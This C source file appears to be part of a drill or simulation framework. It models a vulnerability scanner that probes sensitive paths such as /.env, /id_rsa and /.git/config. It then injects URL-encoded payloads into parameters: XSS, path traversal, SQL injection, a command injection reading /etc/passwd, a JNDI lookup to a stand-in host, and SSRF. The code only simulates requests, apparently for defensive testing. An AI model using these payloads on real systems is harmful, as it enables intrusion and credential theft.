/* SPDX-License-Identifier: Apache-2.0 */
/* A vulnerability scanner: a look at the site, then a list of paths that are mostly not there, then
 * a handful of payloads into every parameter it saw. Some say what they are, most do not. */
#include "drill/attacks.h"

#include <stdio.h>

static const char *const folders[] = { "",       "/admin",   "/old",  "/test",  "/backup", "/dev",
                                       "/shop",  "/cms",     "/api",  "/app",   "/web",    "/site",
                                       "/files", "/private", "/beta", "/portal" };
static const char *const weak_spots[] = {
    "/.env",           "/.git/config",  "/backup.zip",    "/db.sql",        "/phpinfo.php",
    "/config.php.bak", "/wp-login.php", "/.svn/entries",  "/server-status", "/.DS_Store",
    "/dump.sql.gz",    "/web.config",   "/install.php",   "/console",       "/actuator/env",
    "/.htpasswd",      "/id_rsa",       "/composer.lock", "/debug.log",     "/shell.php",
};
static const char *const payloads[] = {
    "%27%22%3E%3Cscript%3Ealert(7)%3C/script%3E",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "1%27%20OR%20%271%27=%271",
    "%3Bcat%20/etc/passwd",
    "%3Cimg%20src=x%20onerror=alert(7)%3E",
    "1%20AND%20SLEEP(5)",
    "%7B%7B7*7%7D%7D",
    "%24%7Bjndi:ldap://collect.example/a%7D",
    "http://127.0.0.1:8080/",
    "....//....//etc/passwd",
};
static const char *const places[] = { "/search?q=", "/c/chairs?page=", "/c/rugs?sort=",
                                      "/order/track?number=", "/p/oak-chair-1008?ref=" };

enum {
    PATHS = STK_COUNT(folders) * STK_COUNT(weak_spots),
    TRIALS = STK_COUNT(places) * STK_COUNT(payloads)
};

static stk_time scan(stk_drill *d, stk_drill_actor *a)
{
    char target[160];
    uint32_t n = a->phase++;
    stk_drill_request r = { .target = target, .status = 404, .bytes = 2900 };
    if (n == 0) {
        (void)snprintf(target, sizeof target, "/");
        r.status = 200;
        r.bytes = 31250;
    } else if (n <= PATHS) {
        /* In an order of its own: 7 has no common factor with the number of paths. */
        uint32_t i = (n * 7 + a->number) % PATHS;
        (void)snprintf(target, sizeof target, "%s%s", folders[i % STK_COUNT(folders)],
                       weak_spots[i / STK_COUNT(folders)]);
        if (stk_rng_chance(&a->rng, 15))
            r.status = 403;
    } else if (n <= PATHS + TRIALS) {
        uint32_t i = n - PATHS - 1;
        (void)snprintf(target, sizeof target, "%s%s", places[i / STK_COUNT(payloads)],
                       payloads[i % STK_COUNT(payloads)]);
        r.status = stk_rng_chance(&a->rng, 60) ? 500 : stk_rng_chance(&a->rng, 200) ? 400 : 200;
        r.bytes = r.status == 200 ? 11800 : 1200;
    } else {
        return STK_TIME_NONE;
    }
    stk_drill_ask(d, a, &r);
    return d->now + stk_rng_wait(&a->rng, a->left * INT64_C(1) * STK_MS);
}

void stk_drill_start_scanner(stk_drill *d, stk_rng *rng, int32_t scenario)
{
    stk_drill_actor *a = stk_drill_attacker(d, stk_drill_when(d, rng, STK_HOUR), scan, scenario);
    if (!a)
        return;
    if (stk_rng_chance(rng, 300))
        a->agent = "Weakspotter/0.9 (+https://weakspotter.example)";
    a->number = stk_rng_below(rng, PATHS);
    a->left = 80 + stk_rng_below(rng, 1400); /* mean milliseconds between requests */
}
